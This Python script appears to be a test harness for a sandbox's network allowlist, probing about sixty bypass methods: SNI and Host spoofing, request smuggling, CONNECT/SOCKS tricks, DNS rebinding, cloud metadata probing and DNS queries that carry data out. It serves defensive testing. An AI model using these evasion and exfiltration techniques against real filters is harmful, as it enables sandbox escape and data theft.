#!/usr/bin/env python3
"""Ways around --net allow:a.example,rebind.example,a.example:5432: one line each, NAME and what it got.

	ways.py          all of them
	ways.py NAME…    these

"open" is what a way gets where nothing stops it; anything else is how it was stopped.
"""
import os
import socket
import ssl
import struct
import sys
import urllib.request

A, B, PRIVATE, META = "203.0.113.20", "203.0.113.21", "10.1.2.3", "169.254.169.254"
INSIDE = "FILTERED" if open("/etc/resolv.conf").read().startswith("nameserver 127.0.0.1") else ""


def stopped(error):
    if isinstance(error, socket.gaierror):
        return "no such name"
    return type(error).__name__ if not getattr(error, "errno", None) else \
        __import__("errno").errorcode.get(error.errno, type(error).__name__)


def talk(address, port, sent, want=b"HTTP/1.1 200", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(8)
        s.connect((address, port))
        s.sendall(sent)
        got = b""
        while want not in got and len(got) < 65536:
            piece = s.recv(65536)
            if not piece:
                break
            got += piece
    return "open" if want in got else "refused: " + got[:12].decode("latin-1") if got else "closed"


def http(host, target="/", extra=""):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, host, extra)).encode()


def resolve(name):
    return socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def tls(dialled, sni, alpn=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((dialled, 443), 8) as s, \
            context.wrap_socket(s, server_hostname=sni) as t:
        t.sendall(http("a.example"))
        return "open" if b"200 OK" in t.recv(100) else "closed"


def hello(sni):
    out, into = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    o = context.wrap_bio(into, out, server_hostname=sni)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def pieces(dialled, port, all_bytes, size, want):
    with socket.create_connection((dialled, port), 8) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(all_bytes), size):
            s.sendall(all_bytes[i:i + size])
        got = s.recv(100)
    return "open" if got[:1] == want else "refused"


def with_ech(sni):
    """The ClientHello with an encrypted_client_hello extension put in front of the others."""
    record = bytearray(hello(sni))
    at = 5 + 4 + 2 + 32
    at += 1 + record[at]
    at += 2 + struct.unpack(">H", record[at:at + 2])[0]
    at += 1 + record[at]
    extension = struct.pack(">HH", 0xfe0d, 4) + b"\0\0\1\0"
    n = struct.unpack(">H", record[at:at + 2])[0] + len(extension)
    record[at:at + 2] = struct.pack(">H", n)
    record[at + 2:at + 2] = extension
    record[3:5] = struct.pack(">H", len(record) - 5)
    record[6:9] = struct.pack(">I", len(record) - 9)[1:]
    return bytes(record)


def over_two_records(sni):
    record = hello(sni)
    body, half = record[5:], 40
    return record[:3] + struct.pack(">H", half) + body[:half] + \
        record[:3] + struct.pack(">H", len(body) - half) + body[half:]


def udp(address, port, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.connect((address, port))
        s.send(payload)
        return "open" if s.recv(512) else "closed"


def question(name, kind=1):
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(
        bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0" + bytes([kind]) + b"\0\1"


def ask_here(name, tcp=False):
    message = question(name)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.connect(("127.0.0.1" if INSIDE else "203.0.113.10", 53))
        s.send(struct.pack(">H", len(message)) + message if tcp else message)
        got = s.recv(512)[2 if tcp else 0:]
    return "open" if got[3] & 15 == 0 and got[7] > 0 else "rcode %d" % (got[3] & 15)


def proxied(sent, want=b" 200"):
    if not INSIDE:
        return "open"  # there is no proxy to be asked
    return talk("127.0.0.1", 3128, sent, want)


def socks(name, port, by_address=False):
    if not INSIDE:
        return "open"
    with socket.create_connection(("127.0.0.1", 3128), 8) as s:
        s.sendall(b"\5\1\0")
        s.recv(2)
        goal = b"\1" + socket.inet_aton(name) if by_address else b"\3" + bytes([len(name)]) + name.encode()
        s.sendall(b"\5\1\0" + goal + struct.pack(">H", port))
        got = s.recv(10)
    return "open" if got[1:2] == b"\0" else "reply %d" % got[1] if len(got) > 1 else "closed"


def kept():
    """The second request of a kept connection is for somebody else."""
    with socket.create_connection((resolve("a.example"), 80), 8) as s:
        s.sendall(http("a.example"))
        first = s.recv(4096)
        s.sendall(http("b.example"))
        second = s.recv(4096)
    return "open" if b"200 OK" in first and b"host=b.example" in second else "stopped"


def rebind():
    tls(resolve("rebind.example"), "rebind.example")
    if INSIDE:
        return tls(resolve("rebind.example"), "rebind.example")
    return "open"


def hello_again():
    """A second ClientHello, for somebody else, before the server has answered the first."""
    with socket.create_connection((resolve("a.example"), 443), 8) as s:
        s.sendall(hello("a.example"))
        got = s.recv(1)
    with socket.create_connection((resolve("a.example"), 443), 8) as s:
        s.sendall(hello("b.example") + hello("a.example"))
        return "open" if got == b"\x16" and s.recv(1) == b"\x16" else "closed"


def tricky_name(name):
    """What the resolver here says to a name as it stands, in a question that we write ourselves."""
    labels = name if isinstance(name, list) else name.encode("latin-1").split(b".")
    message = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(
        bytes([len(x)]) + x for x in labels) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.connect(("127.0.0.1" if INSIDE else "203.0.113.10", 53))
        s.send(message)
        got = s.recv(512)
    return "open" if got[3] & 15 == 0 and got[7] > 0 else "rcode %d" % (got[3] & 15)


def questions_of_other_kinds():
    """TXT and NULL carry data back; inside none of them is answered, even for a permitted name."""
    if not INSIDE:
        return "open"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.connect(("127.0.0.1", 53))
        for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 252):
            s.send(question("a.example", kind))
            if s.recv(512)[7] > 0:
                return "open"
    return "empty"


def socks_raw(sent):
    if not INSIDE:
        return "open"
    with socket.create_connection(("127.0.0.1", 3128), 8) as s:
        s.settimeout(8)
        s.sendall(b"\5\1\0")
        s.recv(2)
        s.sendall(sent)
        got = s.recv(10)
    return "open" if got[1:2] == b"\0" else "reply %d" % got[1] if len(got) > 1 else "closed"


def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(3)
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (A, 0))
        return "open" if s.recv(100) else "closed"


def raw():
    """Whatever the kernel lets one write by hand, with or without the header of IP."""
    made = []
    for family, protocol in ((socket.AF_INET, socket.IPPROTO_RAW), (socket.AF_INET6, socket.IPPROTO_RAW), (socket.AF_PACKET, 0)):
        try:
            socket.socket(family, socket.SOCK_RAW, protocol).close()
            made.append("open")
        except OSError as error:
            made.append(os.strerror(error.errno))
    return "open" if "open" in made else ", ".join(made)


def redirected():
    """A host that is permitted sends its client to one that is not."""
    with urllib.request.urlopen("http://a.example/away", timeout=8) as answer:
        return "open" if b"host=b.example" in answer.read() else "closed"


dialled = (lambda: resolve("a.example"))
WAYS = {
    "the address of a permitted host": lambda: talk(A, 443, hello("a.example"), b"\x16"),
    "the address of another host": lambda: talk(B, 80, http("b.example")),
    "a private address": lambda: talk(PRIVATE, 80, http("x")),
    "the metadata address": lambda: talk(META, 80, http(META)),
    "an address in octal": lambda: talk("0313.0.0161.024", 80, http("a.example")),
    "an address in hex": lambda: talk("0xcb007114", 80, http("a.example")),
    "an address as an integer": lambda: talk("3405803796", 80, http("a.example")),
    "a mapped address": lambda: talk("::ffff:" + A, 80, http("a.example"), family=socket.AF_INET6),
    "a name that is not permitted": lambda: talk(resolve("b.example"), 80, http("b.example")),
    "a name above a permitted one": lambda: talk(resolve("alias.example"), 80, http("alias.example")),
    "a name below a permitted one": lambda: talk(resolve("deep.sub.a.example"), 80, http("deep.sub.a.example")),
    "another server name": lambda: tls(dialled(), "b.example"),
    "no server name": lambda: tls(dialled(), None),
    "another server name, one byte at a time": lambda: pieces(dialled(), 443, hello("b.example"), 1, b"\x16"),
    "another server name over two records": lambda: pieces(dialled(), 443, over_two_records("b.example"), 4096, b"\x16"),
    "an encrypted server name": lambda: pieces(dialled(), 443, with_ech("a.example"), 4096, b"\x16"),
    "http on the port of https": lambda: talk(dialled(), 443, http("a.example"), b"HTTP"),
    "another Host": lambda: talk(dialled(), 80, http("b.example")),
    "another Host on the second request": kept,
    "two Hosts": lambda: talk(dialled(), 80, http("a.example", extra="Host: b.example\r\n")),
    "no Host": lambda: talk(dialled(), 80, b"GET / HTTP/1.1\r\n\r\n"),
    "an absolute target of another host": lambda: talk(dialled(), 80, http("a.example", "http://b.example/")),
    "CONNECT behind port 80": lambda: talk(dialled(), 80, b"CONNECT b.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n"),
    "an upgrade": lambda: talk(dialled(), 80, http("a.example", extra="Connection: Upgrade\r\nUpgrade: websocket\r\n")),
    "a request in a body that is two lengths": lambda: talk(
        dialled(), 80, http("a.example", extra="Content-Length: 3\r\nContent-Length: 60\r\n") + b"abc"),
    "chunks and a length": lambda: talk(
        dialled(), 80, http("a.example", extra="Transfer-Encoding: chunked\r\nContent-Length: 3\r\n") + b"0\r\n\r\n"),
    "a bare line feed": lambda: talk(dialled(), 80, b"GET / HTTP/1.1\nHost: a.example\n\n"),
    "a redirect to another host": redirected,
    "a port that was not named": lambda: talk(dialled(), 8080, http("a.example")),
    "rebinding": rebind,
    "the host's name server": lambda: udp("203.0.113.10", 53, question("b.example")),
    "a question for another name over TCP": lambda: ask_here("b.example", tcp=bool(INSIDE)),
    "a question with data in it": lambda: ask_here("secret-data.b.example"),
    "UDP": lambda: udp(A, 443, b"quic"),
    "ICMP": icmp,
    "a raw socket": raw,
    "CONNECT to another name": lambda: proxied(b"CONNECT b.example:443 HTTP/1.1\r\nHost: b.example:443\r\n\r\n"),
    "CONNECT to another port": lambda: proxied(b"CONNECT a.example:22 HTTP/1.1\r\nHost: a.example:22\r\n\r\n"),
    "CONNECT to an address": lambda: proxied(b"CONNECT 203.0.113.21:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    "an absolute target at the proxy": lambda: proxied(http("b.example", "http://b.example/")),
    "an absolute target and another Host": lambda: proxied(http("b.example", "http://a.example/"), b"host=b.example"),
    "SOCKS to another name": lambda: socks("b.example", 443),
    "SOCKS by address": lambda: socks(B, 443, True),
    "a server name that begins alike": lambda: tls(dialled(), "a.example.b.example"),
    "a second hello before the first is answered": hello_again,
    "a name with a dot within a label": lambda: tricky_name([b"a.example"]) if INSIDE else "open",
    "a name with a zero in it": lambda: tricky_name([b"a", b"example\0", b"b", b"example"]) if INSIDE else "open",
    "a name of many labels": lambda: tricky_name([b"x"] * 100 + [b"b", b"example"]) if INSIDE else "open",
    "questions that carry data": questions_of_other_kinds,
    "a Host with a user before it": lambda: talk(dialled(), 80, http("a.example@b.example")),
    "a Host with another behind a comma": lambda: talk(dialled(), 80, http("a.example, b.example")),
    "a target with a user before it": lambda: talk(dialled(), 80, http("a.example", "http://a.example@b.example/")),
    "a Host that is folded": lambda: talk(dialled(), 80, b"GET / HTTP/1.1\r\nX: y\r\n Host: b.example\r\nHost: b.example\r\n\r\n"),
    "a space before the colon": lambda: talk(dialled(), 80, b"GET / HTTP/1.1\r\nHost: a.example\r\nHost : b.example\r\n\r\n"),
    "HTTP/2 without TLS": lambda: talk(dialled(), 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\0\0") if INSIDE else "open",
    "CONNECT twice on one connection": lambda: proxied(
        b"CONNECT b.example:443 HTTP/1.1\r\nHost: b.example:443\r\n\r\nCONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n"),
    "CONNECT with a name of an address": lambda: proxied(b"CONNECT 0xcb007115:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    "CONNECT to this sandbox's loopback": lambda: proxied(b"CONNECT 127.0.0.1:5432 HTTP/1.1\r\nHost: x\r\n\r\n"),
    "CONNECT to an address with a zone": lambda: proxied(b"CONNECT [fe80::1%25lo]:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    "CONNECT to a mapped address": lambda: proxied(b"CONNECT [::ffff:203.0.113.21]:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    "SOCKS: a name with a zero": lambda: socks_raw(b"\5\1\0\3\x13a.example\0b.example" + b"\1\xbb"),
    "SOCKS: an address of inside": lambda: socks_raw(b"\5\1\0\1\xc6\x12\0\x63\1\xbb"),
    "SOCKS: to listen": lambda: socks_raw(b"\5\2\0\3\x09a.example\1\xbb"),
    "SOCKS: datagrams": lambda: socks_raw(b"\5\3\0\3\x09a.example\1\xbb"),
    "SOCKS: a mapped address": lambda: socks_raw(b"\5\1\0\4" + b"\0" * 10 + b"\xff\xff" + socket.inet_aton(B) + b"\1\xbb"),
}


def main():
    wanted = sys.argv[1:] or list(WAYS)
    for name in wanted:
        try:
            got = WAYS[name]()
        except (OSError, ssl.SSLError, UnicodeError) as error:
            got = stopped(error)
        print("%s: %s" % (name, got), flush=True)


main()
